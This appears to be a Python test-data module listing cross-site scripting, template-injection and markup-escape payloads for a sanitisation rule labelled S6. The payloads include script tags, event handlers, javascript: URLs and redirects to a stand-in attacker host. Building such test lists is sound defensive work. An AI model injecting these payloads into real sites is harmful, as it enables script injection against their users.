"""Texts that would act if a page took them for markup: rule S6."""

from __future__ import annotations

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "--><script>alert(1)</script>",
    "{{ 7 * 7 }}{% for x in (1).__class__.__mro__ %}{{ x }}{% endfor %}",
    "${alert(1)}`alert(1)`",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv=refresh content="0;url=http://attacker.invalid/">',
    "<base href=http://attacker.invalid/>",
    "]]><script>alert(1)</script>",
    '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>',
    "\u2028\u2029\u202e<script\u0000>alert(1)</script\x0b>&lt;script&gt;alert(1)&lt;/script&gt;",
]
